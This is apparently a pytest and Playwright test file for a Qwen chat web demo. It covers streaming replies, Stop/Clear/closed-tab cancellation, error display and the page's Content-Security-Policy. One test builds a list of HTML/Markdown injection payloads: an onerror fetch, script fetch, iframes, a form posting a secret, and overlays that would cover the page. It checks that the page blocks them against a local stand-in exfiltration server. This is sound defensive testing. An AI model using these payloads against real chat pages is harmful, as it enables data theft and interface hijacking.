"""The web demo in headless Chromium (Playwright), and its reply stream without a browser.

Two servers per module:
- `python web_demo.py -c demo`, a real process on 127.0.0.1, over a copy of the tiny checkpoint whose sampled replies
  run for 4000 tokens (minutes): it must show the random-weights note, and Stop, Clear or a closed tab must end a
  reply that would otherwise run on for nobody. That the engine really stopped is read from the process's CPU time.
- the page `build_demo` makes, served from this process with 24-token replies sampled with top_k=1 (so the greedy
  ones): every reply it shows is checked against transformers' own `generate()`. Its checkpoint is the tiny one with
  a NaN embedding for one word, so that a question holding that word fails inside the engine.

What the browser sends back is read from the page's requests: each reply event posts the textbox and the whole
conversation, which is exactly the history the model is given next. Every URL any page requests is recorded too:
nothing may leave 127.0.0.1, and no message may make the page load anything from another origin.
"""

from __future__ import annotations

import http.server
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import expect
from transformers import GenerationConfig

from qwen.engine import GenerationEngine
from qwen.qwen_generation_utils import make_context
from support import (
    POISONED_WORD,
    free_port,
    greedy_reference,
    import_script,
    nan_embedding_checkpoint,
    options_hiding_their_default,
    stop,
    wait_until_serving,
)

REPO = Path(__file__).resolve().parents[1]
# The README's screenshot is refreshed only on request, so a test run leaves the checkout as it found it.
SCREENSHOT = REPO / "assets" / "web_demo.png" if os.environ.get("QWEN_UPDATE_SCREENSHOT") else None
CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
    "--no-first-run", "--disable-quic", "--disable-sync",
]
SYSTEM = "You are a helpful assistant."
REPETITION_PENALTY = 1.1  # the tiny checkpoint's, as the released chat models'
REPLY_TOKENS = 24  # the local app's replies: about half a second each
LONG_REPLY_TOKENS = 4000  # the demo server's: minutes of generation unless stopped

TRACKER = "#chatbot [data-testid='status-tracker']"
BOT = "#chatbot [data-testid='bot']"
USER = "#chatbot [data-testid='user']"

# Characters that mean something to Markdown and HTML: the page renders them, the model must get them as typed.
MARKDOWN_QUESTION = "Show **bold**, <b>tags</b> & `code`:\n```python\nprint(1 < 2)\n```"

# The app served from this process runs Gradio's queue, whose statistics code trips pandas 3 deprecations.
pytestmark = pytest.mark.filterwarnings("ignore:'future.no_silent_downcasting' is deprecated",
                                        "ignore:The copy keyword is deprecated")


def greedy_config(max_new_tokens: int) -> GenerationConfig:
    return GenerationConfig(max_new_tokens=max_new_tokens, do_sample=False, repetition_penalty=REPETITION_PENALTY,
                            chat_format="chatml")


def top_1_config(max_new_tokens: int) -> GenerationConfig:
    """Sampled from the single likeliest token: the greedy reply, but NaN logits fail as they fail any sampling."""
    return GenerationConfig(max_new_tokens=max_new_tokens, do_sample=True, top_k=1, top_p=1.0, temperature=1.0,
                            repetition_penalty=REPETITION_PENALTY, chat_format="chatml")


@pytest.fixture(scope="module")
def web_demo():
    """web_demo.py imported as a module (it is a script at the repository root, not part of the package)."""
    return import_script(REPO / "web_demo.py")


# --------------------------------------------------------------------------------------------------------------------
# Servers
# --------------------------------------------------------------------------------------------------------------------


def checkpoint_copy(source: Path, folder: Path, **generation: object) -> Path:
    """A copy of a checkpoint with some generation_config.json fields changed."""
    shutil.copytree(source, folder)
    path = folder / "generation_config.json"
    path.write_text(json.dumps({**json.loads(path.read_text(encoding="utf-8")), **generation}), encoding="utf-8")
    return folder


@dataclass
class Server:
    process: subprocess.Popen
    url: str
    log: Path

    def cpu_used(self) -> float:
        """CPU seconds the server process (all its threads) has used so far."""
        fields = Path(f"/proc/{self.process.pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")  # utime, stime

    def wait_busy(self, seconds: float = 0.5, timeout: float = 60) -> None:
        """Wait until the server has used `seconds` more of CPU time: it is generating (however busy the machine)."""
        start, deadline = self.cpu_used(), time.monotonic() + timeout
        while self.cpu_used() - start < seconds:
            assert time.monotonic() < deadline, "the server did not generate"
            time.sleep(0.05)

    def wait_idle(self, window: float = 2.0, at_most: float = 0.1, timeout: float = 30) -> None:
        """Wait until the server uses at most `at_most` CPU seconds in `window` seconds: its engine has stopped.

        Generating takes far more than that even on a loaded machine (a fair share of a core, not 5% of one).
        """
        deadline = time.monotonic() + timeout
        while True:
            start = self.cpu_used()
            time.sleep(window)
            if self.cpu_used() - start <= at_most:
                return
            assert time.monotonic() < deadline, "the server kept generating"


@pytest.fixture(scope="module")
def demo_server_started(tmp_path_factory, tiny_chat_dir, vocab_file) -> Iterator[Server]:
    """`web_demo.py -c demo`, started without waiting for it: it boots while the browser and the local app start."""
    folder = tmp_path_factory.mktemp("web-demo")
    # `-c demo` takes the folder QWEN_DEMO_CHECKPOINT names as it is once it holds a checkpoint.
    checkpoint = checkpoint_copy(tiny_chat_dir, folder / "demo-checkpoint", max_new_tokens=LONG_REPLY_TOKENS)
    port = free_port()
    env = {
        **os.environ, "HF_HUB_OFFLINE": "1", "GRADIO_ANALYTICS_ENABLED": "False", "HF_HUB_DISABLE_TELEMETRY": "1",
        "NO_PROXY": "127.0.0.1,localhost", "QWEN_DEMO_CHECKPOINT": str(checkpoint), "QWEN_VOCAB_FILE": str(vocab_file),
    }
    command = [sys.executable, str(REPO / "web_demo.py"), "-c", "demo", "--cpu-only",
               "--server-name", "127.0.0.1", "--server-port", str(port)]
    log = folder / "web_demo.log"
    with log.open("w") as output:  # a file, not a pipe: nothing reads it while the tests run
        process = subprocess.Popen(command, cwd=REPO, env=env, stdout=output, stderr=subprocess.STDOUT)
    try:
        yield Server(process, f"http://127.0.0.1:{port}/", log)
    finally:
        stop(process)


@pytest.fixture(scope="module")
def demo_server(demo_server_started: Server) -> Server:
    server = demo_server_started
    wait_until_serving(server.process, server.url, timeout=120, output=server.log.read_text)
    return demo_server_started


@dataclass
class LocalApp:
    url: str
    engine: GenerationEngine


@pytest.fixture(scope="module")
def poisoned_model(tmp_path_factory, tiny_chat_dir, tokenizer):
    """The tiny chat model with a NaN embedding for POISONED_WORD: sampling a reply to a prompt holding it fails."""
    from qwen import QWenLMHeadModel

    (token_id,) = tokenizer.encode(POISONED_WORD)
    folder = nan_embedding_checkpoint(tiny_chat_dir, tmp_path_factory.mktemp("poisoned") / "checkpoint", token_id)
    return QWenLMHeadModel.from_pretrained(folder).eval()


@pytest.fixture(scope="module")
def chat_app(web_demo, poisoned_model, tokenizer) -> Iterator[LocalApp]:
    """The page `build_demo` makes, served from this process: greedy replies of REPLY_TOKENS tokens (top-1 sampled,
    so that a question holding POISONED_WORD fails)."""
    engine = GenerationEngine(poisoned_model, tokenizer, max_batch_size=8)
    demo = web_demo.build_demo(engine, tokenizer, top_1_config(REPLY_TOKENS),
                               model_name="qwen-tiny-random-chat")
    port = free_port()
    # As main() launches it, without holding this thread.
    web_demo.launch_demo(demo, server_name="127.0.0.1", server_port=port, share=False, prevent_thread_lock=True,
                         quiet=True)
    try:
        yield LocalApp(f"http://127.0.0.1:{port}/", engine)
    finally:
        demo.close()
        engine.close()


# --------------------------------------------------------------------------------------------------------------------
# The browser
# --------------------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def requested() -> list[str]:
    """Every URL any page of this module requested."""
    return []


@pytest.fixture(scope="module")
def browser(demo_server_started):
    if not Path(CHROMIUM).exists():
        pytest.skip(f"needs Chromium at {CHROMIUM} (apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        yield browser
        browser.close()


class ChatTab:
    """One browser tab with its own context, so its own Gradio session."""

    def __init__(self, browser, url: str, requested: list[str]) -> None:
        self.context = browser.new_context(viewport={"width": 1280, "height": 800})
        self.context.on("request", lambda request: requested.append(request.url))
        # What the page's Content-Security-Policy refused, from the first byte of the page on.
        self.context.add_init_script(
            "window.cspViolations = []; document.addEventListener('securitypolicyviolation', event => "
            "window.cspViolations.push(`${event.effectiveDirective} ${event.blockedURI}`));")
        self.page = self.context.new_page()
        self.closed = False
        self.sent: list[list] = []  # the inputs of each reply event: [textbox, conversation]
        self.page.on("request", self._record)
        self.page.goto(url)
        self.page.wait_for_selector("#msg textarea")

    def _record(self, request) -> None:
        if request.method == "POST" and "/queue/join" in request.url:
            self.sent.append(request.post_data_json["data"])

    def trigger(self, action: Callable[[], None]) -> None:
        """Trigger a reply event and return once the browser has sent it."""
        with self.page.expect_request(lambda request: "/queue/join" in request.url):
            action()

    def ask(self, question: str) -> None:
        self.page.fill("#msg textarea", question)
        self.trigger(lambda: self.page.click("#submit-btn"))

    def regenerate(self) -> None:
        self.trigger(lambda: self.page.click("#regen-btn"))

    # (Waits by selector and `expect`: the page's Content-Security-Policy refuses wait_for_function's eval.)

    def wait_finished(self, timeout: float = 30) -> None:
        """Wait until the running reply is complete: the Chatbot's status tracker is hidden again."""
        self.page.wait_for_selector(f"{TRACKER}.hide", state="attached", timeout=timeout * 1000)

    def wait_streaming(self, replies: int = 1) -> None:
        """Wait until the `replies`-th reply has begun to show text."""
        expect(self.page.locator(BOT).nth(replies - 1)).to_have_text(re.compile(r"\S"), timeout=30_000)

    def csp_violations(self) -> list[str]:
        return self.page.evaluate("window.cspViolations")

    def counts(self) -> tuple[int, int]:
        """(user messages, assistant messages) on the page."""
        return self.page.locator(USER).count(), self.page.locator(BOT).count()

    def last_sent_conversation(self) -> list[tuple[str, str]]:
        """The conversation the last reply event sent, as (role, plain text) pairs."""
        return [(message["role"], "".join(part["text"] for part in message["content"]))
                for message in self.sent[-1][1]]

    def watch_fewest_replies(self) -> None:
        """From now on, keep in `window.fewestReplies` the fewest assistant messages the chat shows at any moment."""
        self.page.evaluate(
            """selector => {
                const count = () => document.querySelectorAll(selector).length;
                window.fewestReplies = count();
                new MutationObserver(() => { window.fewestReplies = Math.min(window.fewestReplies, count()); })
                    .observe(document.querySelector("#chatbot"), {childList: true, subtree: true});
            }""",
            BOT,
        )

    def close(self) -> None:
        if not self.closed:
            self.closed = True
            self.context.close()


@pytest.fixture
def open_tab(browser, requested) -> Iterator[Callable[[str], ChatTab]]:
    tabs: list[ChatTab] = []

    def open_(url: str) -> ChatTab:
        tabs.append(ChatTab(browser, url, requested))
        return tabs[-1]

    yield open_
    for tab in tabs:
        tab.close()


@pytest.fixture(scope="module")
def expected_reply(tiny_chat_model, tokenizer) -> Callable[..., str]:
    """The local app's reply to a conversation, from transformers' generate() (not the demo's engine)."""

    def reply(question: str, history: list[tuple[str, str]] | None = None) -> str:
        ids = make_context(tokenizer, question, history=history, system=SYSTEM)[1]
        tokens = greedy_reference(tiny_chat_model, tokenizer, ids, REPLY_TOKENS, repetition_penalty=REPETITION_PENALTY)
        return tokenizer.decode(tokens, skip_special_tokens=True, errors="replace").strip()

    return reply


# --------------------------------------------------------------------------------------------------------------------
# The page
# --------------------------------------------------------------------------------------------------------------------


def test_a_two_turn_chat_shows_the_model_replies_and_keeps_plain_text_history(chat_app, open_tab, expected_reply):
    tab = open_tab(chat_app.url)
    page = tab.page
    assert page.locator("#demo-notice").count() == 0  # a real checkpoint gets no random-weights note
    # The original page's controls, in its order, and its notice about the license and harmful content.
    assert page.locator("#header h1").inner_text() == "Qwen-Chat Bot"
    assert page.locator("button[id$='-btn']").all_inner_texts() == [
        "🧹 Clear History (清除历史)", "🚀 Submit (发送)", "🤔️ Regenerate (重试)", "⏹️ Stop (停止)"]
    assert page.locator("#msg").get_by_label("Input").count() == 1  # the message box, labelled "Input"
    assert page.locator("#chatbot").get_by_text("Qwen-Chat", exact=True).count() == 1  # the chat's label
    notice = " ".join(page.locator("#usage-notice").inner_text().split())
    assert "license" in notice and "hate speech, violence, pornography, fraud" in notice and "许可协议" in notice
    tab.trigger(lambda: page.click("#submit-btn"))  # nothing typed: nothing to answer
    tab.wait_finished()

    tab.ask(MARKDOWN_QUESTION)
    assert tab.sent[-1] == [MARKDOWN_QUESTION, []]
    tab.wait_finished()
    assert tab.counts() == (1, 1)
    assert page.input_value("#msg textarea") == ""
    # Gradio renders the Markdown and the code in the browser ...
    user = page.locator(USER).first
    assert user.locator("strong").inner_text() == "bold"
    assert user.locator("b").inner_text() == "tags"
    assert "print(1 < 2)" in user.locator("pre code").inner_text()
    assert page.locator(BOT).first.inner_text().strip()

    # As in the original, Enter starts a new line in the two-line box and only Submit sends.
    second = "And in\none line?"
    page.fill("#msg textarea", "And in")
    page.press("#msg textarea", "End")
    page.press("#msg textarea", "Enter")
    page.locator("#msg textarea").press_sequentially("one line?")
    assert page.input_value("#msg textarea") == second
    events = len(tab.sent)
    tab.trigger(lambda: page.click("#submit-btn"))
    # ... and the conversation it sends back holds the text as typed and as generated.
    first_reply = expected_reply(MARKDOWN_QUESTION)
    assert tab.last_sent_conversation() == [("user", MARKDOWN_QUESTION), ("assistant", first_reply)]
    assert tab.sent[-1][0] == second and len(tab.sent) == events + 1
    tab.wait_finished()
    assert tab.counts() == (2, 2)
    if SCREENSHOT is not None:
        page.screenshot(path=str(SCREENSHOT))

    # Regenerate takes the last reply away and answers the last question again, from the history before it.
    tab.watch_fewest_replies()
    tab.regenerate()
    second_reply = expected_reply(second, [(MARKDOWN_QUESTION, first_reply)])
    assert tab.last_sent_conversation()[-1] == ("assistant", second_reply)
    tab.wait_finished()
    assert page.evaluate("window.fewestReplies") == 1
    assert tab.counts() == (2, 2)
    tab.ask("Thanks!")
    assert tab.last_sent_conversation() == [
        ("user", MARKDOWN_QUESTION), ("assistant", first_reply), ("user", second), ("assistant", second_reply),
    ]
    tab.wait_finished()

    # Clear history empties the chat, and the next question starts a new conversation.
    page.click("#clear-btn")
    expect(page.locator(f"{USER}, {BOT}")).to_have_count(0, timeout=30_000)
    tab.ask("Hello again")
    assert tab.sent[-1][1] == []
    tab.wait_finished()
    assert tab.counts() == (1, 1)
    assert chat_app.engine.running == 0
    assert tab.csp_violations() == []  # the policy takes nothing from the page itself: Markdown, code, buttons


def test_tabs_chat_independently_at_the_same_time(chat_app, open_tab, expected_reply):
    questions = ["Tab one: what is a llama?", "Tab two: 你好，世界"]
    tabs = [open_tab(chat_app.url) for _ in questions]
    for tab, question in zip(tabs, questions):
        tab.ask(question)  # one right after the other: the engine decodes the two replies together
    for tab in tabs:
        tab.wait_finished()
    for tab, question in zip(tabs, questions):
        assert tab.counts() == (1, 1)
        assert tab.page.locator(USER).first.inner_text().strip() == question
        tab.ask("More, please.")
        assert tab.last_sent_conversation() == [("user", question), ("assistant", expected_reply(question))]
    for tab in tabs:
        tab.wait_finished()


def test_a_failed_reply_shows_in_its_chat_and_no_other_tab_notices(web_demo, chat_app, open_tab, expected_reply):
    poisoned = f"Is this{POISONED_WORD} one?"
    failing, other = open_tab(chat_app.url), open_tab(chat_app.url)
    failing.ask(poisoned)
    other.ask("Tab two: hello")  # decoded beside the failing reply when the two overlap
    for tab in (failing, other):
        tab.wait_finished()
    assert failing.counts() == (1, 1)
    error = failing.page.locator(BOT).first.inner_text()
    assert web_demo.ERROR_TITLE in error and "Generation failed: FloatingPointError: the logits hold NaN" in error
    other.ask("More, please.")
    assert other.last_sent_conversation() == [("user", "Tab two: hello"),
                                              ("assistant", expected_reply("Tab two: hello"))]
    other.wait_finished()

    # The failing tab's chat goes on, and the failed question is no part of what the model sees.
    failing.ask("Hello again")
    failing.wait_finished()
    failing.ask("Thanks!")
    (user, asked), (assistant, shown), *rest = failing.last_sent_conversation()
    assert (user, asked, assistant) == ("user", poisoned, "assistant") and shown.startswith("Generation failed:")
    assert rest == [("user", "Hello again"), ("assistant", expected_reply("Hello again"))]
    failing.wait_finished()


class ExfiltrationHost:
    """A real HTTP server on another port of this machine, recording the path of every request that reaches it."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.end_headers()
                self.wfile.write(b"recorded")

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def hostile_markup(origin: str, fixed_classes: str) -> str:
    """Markdown and HTML that would make a page fetch from, post to or frame `origin`, or cover the page (with an
    inline style, and with `fixed_classes`, classes of the page's own style sheets that make an element fixed)."""
    return "\n\n".join([
        f"![chart]({origin}/markdown-image?secret=42)",
        f'<img src="{origin}/img"> <img srcset="{origin}/srcset 1x"> <picture><source srcset="{origin}/source">'
        "</picture>",
        f'<svg><image href="{origin}/svg-image"/><use href="{origin}/svg-use#x"/></svg>',
        f'<video poster="{origin}/poster"></video> <audio src="{origin}/audio" autoplay></audio>',
        f'<iframe src="{origin}/iframe"></iframe> <object data="{origin}/object"></object>',
        f'<embed src="{origin}/embed">',
        f'<link rel="stylesheet" href="{origin}/link"> <style>@import url({origin}/import);</style>',
        f'<span style="background-image: url({origin}/style-attribute)">styled</span>',
        f'<table background="{origin}/table-background"><tr><td>cell</td></tr></table>',
        f'<form action="{origin}/form" method="post"><input name="secret" value="42"><button>Send</button></form>',
        f'<input type="image" src="{origin}/input-image"> <img src="x" onerror="fetch(\'{origin}/onerror\')">',
        f'<script>fetch("{origin}/script")</script> <meta http-equiv="refresh" content="0;url={origin}/refresh">',
        '<div class="cover" style="position: fixed !important; inset: 0; z-index: 99999; background: red">cover</div>',
        f'<div class="cover {fixed_classes}">cover</div>',
        "END OF THE HOSTILE TEXT",
    ])


def test_messages_load_nothing_from_other_origins_and_cover_nothing(web_demo, chat_app, open_tab):
    host = ExfiltrationHost()
    try:
        tab = open_tab(chat_app.url)
        page = tab.page
        requests = []
        page.on("request", lambda request: requests.append(request))
        # Gradio's own style sheets give some classes position: fixed (a full-screen block, for one).
        fixed_classes = page.evaluate("""() => {
            for (const sheet of document.styleSheets) {
                for (const rule of sheet.cssRules) {
                    if (rule.style?.position === "fixed" && /^(\\.[\\w-]+)+$/.test(rule.selectorText)) {
                        return rule.selectorText.split(".").join(" ").trim();
                    }
                }
            }
        }""")
        assert fixed_classes
        hostile = hostile_markup(host.origin, fixed_classes)
        tab.ask(hostile)  # the user's own text
        tab.wait_finished()

        # The reply in the history the page posts back is swapped for the hostile text: the server streams that
        # history back to the page, which renders it as the model's message.
        def swap_reply(route) -> None:
            body = route.request.post_data_json
            body["data"][1][1]["content"] = [{"type": "text", "text": hostile}]
            route.continue_(post_data=json.dumps(body))

        page.route("**/queue/join*", swap_reply)
        tab.ask("Thanks!")
        tab.wait_finished()
        page.unroute("**/queue/join*")
        assert "END OF THE HOSTILE TEXT" in page.locator(USER).first.inner_text()
        assert "END OF THE HOSTILE TEXT" in page.locator(BOT).first.inner_text()
        # (answered: the earlier turn, too long to fit beside the question and the reply, is left out of the prompt)
        assert web_demo.ERROR_TITLE not in page.locator(BOT).nth(1).inner_text()

        # Even markup that got past every filter is refused by the page's Content-Security-Policy.
        outcome = page.evaluate("""origin => {
            const image = document.createElement("img");
            image.src = origin + "/injected-image";
            document.body.append(image);
            return fetch(origin + "/injected-fetch").then(() => "fetched", () => "refused");
        }""", host.origin)
        assert outcome == "refused"

        # The browser tried some of these (Gradio's sanitizer keeps images), but refused each one before sending it.
        own = urlsplit(chat_app.url).netloc
        for request in requests:
            if urlsplit(request.url).scheme in ("http", "https") and urlsplit(request.url).netloc != own:
                assert request.response() is None and request.failure in ("csp", "net::ERR_BLOCKED_BY_CSP"), (
                    request.url, request.failure)
        assert host.hits == []
        control = tab.context.new_page()  # the host does record what reaches it
        control.goto(f"{host.origin}/control")
        control.close()
        assert "/control" in host.hits

        # Nothing from a message covers the page or asks for input. (The style attribute is refused by the policy; the
        # classes do make the element fixed, but within its message, which holds it as a box of its own.)
        covers = page.locator("#chatbot .cover")
        assert covers.count() == 4
        assert covers.evaluate_all("elements => elements.map(e => getComputedStyle(e).position)") == [
            "static", "fixed", "static", "fixed"]
        for cover in covers.all():
            message = cover.locator("xpath=ancestor::*[contains(@class, 'message-content')][1]").bounding_box()
            box = cover.bounding_box()
            assert message["y"] - 1 <= box["y"] and box["y"] + box["height"] <= message["y"] + message["height"] + 1
            assert message["x"] - 1 <= box["x"] and box["x"] + box["width"] <= message["x"] + message["width"] + 1
        for selector in ("#submit-btn", "#msg textarea", "#clear-btn"):
            box = page.locator(selector).bounding_box()
            assert page.evaluate(
                "([selector, x, y]) => document.querySelector(selector).contains(document.elementFromPoint(x, y))",
                [selector, box["x"] + box["width"] / 2, box["y"] + box["height"] / 2]), selector
        controls = "#chatbot .message-content :is(form, input, select, textarea, button:not(.copy_code_button))"
        assert page.locator(controls).evaluate_all("elements => elements.filter(e => e.checkVisibility())") == []
        embedded = "#chatbot .message-content :is(iframe, object, embed, script, link, meta, style, base)"
        assert page.locator(embedded).count() == 0
    finally:
        host.close()


def test_demo_checkpoint_shows_the_random_weights_note(demo_server, open_tab):
    note = open_tab(demo_server.url).page.locator("#demo-notice")
    assert note.is_visible()
    assert "RANDOM weights" in note.inner_text()


def test_stop_and_clear_end_a_long_reply_and_the_engine_goes_idle(demo_server, open_tab):
    tab = open_tab(demo_server.url)
    tab.ask("Tell me a very long story.")
    tab.wait_streaming()
    demo_server.wait_busy()  # generating keeps the server busy

    tab.page.click("#stop-btn")
    tab.wait_finished()
    demo_server.wait_idle()  # the engine stopped, not just the page
    shown = tab.page.locator(BOT).first.inner_text()
    demo_server.wait_idle()
    assert tab.page.locator(BOT).first.inner_text() == shown
    assert tab.counts() == (1, 1)  # the partial reply stays ...

    tab.ask("Shorter, please.")
    # ... and is history like any other (the page shows it rendered, so only its presence is compared here).
    (user, asked), (assistant, partial) = tab.last_sent_conversation()
    assert (user, asked, assistant) == ("user", "Tell me a very long story.", "assistant") and partial
    tab.wait_streaming(replies=2)

    # Clear during a reply stops it too, and the chat stays empty.
    tab.page.click("#clear-btn")
    tab.wait_finished()
    demo_server.wait_idle()
    assert tab.counts() == (0, 0)
    assert tab.csp_violations() == []


def test_closing_a_tab_cancels_its_reply(demo_server, open_tab):
    tab = open_tab(demo_server.url)
    tab.ask("Tell me another very long story.")
    tab.wait_streaming()
    tab.close()
    demo_server.wait_idle()  # it does not generate for a closed tab


def test_the_pages_request_nothing_from_other_hosts(web_demo, demo_server, open_tab, requested):
    # Markdown, code and LaTeX on the page make it load whatever renders them. LaTeX is read between the delimiters
    # of the original's converter: $$ and \\[ for display, $ and \\( inline.
    tab = open_tab(demo_server.url)
    tab.ask(MARKDOWN_QUESTION + "\n$$x^2$$ \\[y\\] and $z$, \\(w\\)")
    tab.wait_streaming()
    tab.page.click("#stop-btn")
    tab.wait_finished()
    assert tab.page.locator(f"{USER} .katex-display .katex").count() == 2
    assert tab.page.locator(f"{USER} .katex").count() == 4
    # The page refuses, by its Content-Security-Policy, anything a message could make it load (see below).
    assert httpx.get(demo_server.url).headers["content-security-policy"] == web_demo.CONTENT_SECURITY_POLICY
    hosts = {urlsplit(url).hostname for url in requested if not url.startswith(("data:", "blob:"))}
    assert hosts == {"127.0.0.1"}, sorted(url for url in requested if urlsplit(url).hostname != "127.0.0.1")


# --------------------------------------------------------------------------------------------------------------------
# The reply stream without a browser
# --------------------------------------------------------------------------------------------------------------------


def test_history_is_the_plain_text_of_the_chatbot_messages(web_demo):
    messages = [
        {"role": "user", "content": "a <b>"},  # as a handler returns it
        {"role": "assistant", "content": [{"type": "text", "text": "**b**"}]},  # as the browser sends it back
        {"role": "user", "content": [{"type": "text", "text": "stopped before any text"}]},
        {"role": "user", "content": "failed"},
        {**web_demo.error_message("Generation failed."), "content": [{"type": "text", "text": "Generation failed."}]},
        {"role": "user", "content": "c"},
        {"role": "assistant", "content": "d"},
    ]
    assert web_demo.history_pairs(messages) == [("a <b>", "**b**"), ("stopped before any text", ""), ("c", "d")]
    assert web_demo.without_last_reply(messages) == messages[:6]
    assert web_demo.without_last_reply(messages[:5]) == messages[:4]  # Regenerate asks a failed question again
    assert web_demo.without_last_reply([]) == []


@pytest.fixture
def engine(tiny_chat_model, tokenizer) -> Iterator[GenerationEngine]:
    engine = GenerationEngine(tiny_chat_model, tokenizer, max_batch_size=2)
    try:
        yield engine
    finally:
        engine.close()


def wait_running(engine: GenerationEngine, count: int) -> None:
    deadline = time.time() + 30
    while engine.running > count:
        assert time.time() < deadline, "the engine kept generating an abandoned reply"
        time.sleep(0.01)


LONG_QUESTION = [{"role": "user", "content": "Tell me a very long story."}]


def test_a_closed_reply_stream_frees_its_engine_slot(web_demo, engine, tokenizer):
    # Gradio closes the generator of an event whose tab went away.
    chat = web_demo.WebChat(engine, tokenizer, greedy_config(LONG_REPLY_TOKENS))
    stream = chat.reply(LONG_QUESTION, session="a")
    conversation = next(stream)
    assert conversation[0] == LONG_QUESTION[0] and conversation[1]["role"] == "assistant"
    assert engine.running == 1
    stream.close()
    wait_running(engine, 0)
    assert not chat.stop("a")  # nothing is left running for the session


def test_stop_and_clear_end_a_sessions_reply(web_demo, engine, tokenizer):
    chat = web_demo.WebChat(engine, tokenizer, greedy_config(LONG_REPLY_TOKENS))
    stream = chat.reply(LONG_QUESTION, session="a")
    shown = [next(stream)]
    assert not chat.stop("b")  # another session's Stop changes nothing: the reply goes on growing
    while len(shown[-1][1]["content"]) <= len(shown[0][1]["content"]):
        shown.append(next(stream))
    assert engine.running == 1
    assert chat.stop("a")
    shown.extend(stream)  # the stream ends by itself, with the reply as far as it got
    wait_running(engine, 0)
    assert shown[-1][:1] == LONG_QUESTION and shown[-1][1]["content"]

    stream = chat.reply(LONG_QUESTION, session="a")
    next(stream)
    assert chat.stop("a", clear=True)
    assert list(stream)[-1] == []  # its last output empties the chat
    wait_running(engine, 0)


def test_stopping_one_sessions_reply_leaves_the_others_intact(web_demo, engine, tiny_chat_model, tokenizer):
    long_chat = web_demo.WebChat(engine, tokenizer, greedy_config(LONG_REPLY_TOKENS))
    short_chat = web_demo.WebChat(engine, tokenizer, greedy_config(40))
    question = "Tell me a short story."
    first = long_chat.reply(LONG_QUESTION, session="a")
    next(first)  # admitted first: row 0 of the engine's cache
    second = short_chat.reply([{"role": "user", "content": question}], session="b")
    shown = [next(second)]
    long_chat.stop("a")
    shown.extend(second)
    ids = make_context(tokenizer, question, system=SYSTEM)[1]
    tokens = greedy_reference(tiny_chat_model, tokenizer, ids, 40, repetition_penalty=REPETITION_PENALTY)
    assert shown[-1][-1]["content"] == tokenizer.decode(tokens, skip_special_tokens=True, errors="replace").strip()


def test_a_refused_question_shows_an_error_in_the_chat(web_demo, engine, tokenizer):
    chat = web_demo.WebChat(engine, tokenizer, greedy_config(8))
    too_long = [{"role": "user", "content": "word " * engine.max_context}]
    *_, shown = chat.reply(too_long, session="a")
    assert shown[0] == too_long[0] and web_demo.is_error_message(shown[1]) and "context" in shown[1]["content"]
    assert engine.running == 0 and not chat.stop("a")


def test_unusable_generation_settings_are_refused_at_start(web_demo, tiny_chat_dir, tmp_path):
    folder = checkpoint_copy(tiny_chat_dir, tmp_path / "absurd", repetition_penalty=1e-300)
    # main() itself, in this process (a server process would take seconds to import Gradio): a SystemExit with a
    # message is Python's one-line error, exit status 1.
    with pytest.raises(SystemExit) as exited:
        web_demo.main(["-c", str(folder), "--cpu-only", "--server-port", str(free_port())])
    message = exited.value.code
    assert isinstance(message, str) and message.startswith("error:") and "\n" not in message
    assert "repetition_penalty" in message


def test_the_originals_options_and_defaults_and_every_default_shown(web_demo):
    parser = web_demo.build_parser()
    assert options_hiding_their_default(parser) == []
    args = parser.parse_args([])
    assert (args.checkpoint_path, args.cpu_only, args.share, args.inbrowser, args.server_port, args.server_name) == (
        "Qwen/Qwen-7B-Chat", False, False, False, 8000, "127.0.0.1")
    args = parser.parse_args(["-c", "x", "--cpu-only", "--share", "--inbrowser", "--server-port", "80",
                              "--server-name", "0.0.0.0"])  # the original's docker script passes these
    assert (args.checkpoint_path, args.cpu_only, args.share, args.inbrowser, args.server_port, args.server_name) == (
        "x", True, True, True, 80, "0.0.0.0")
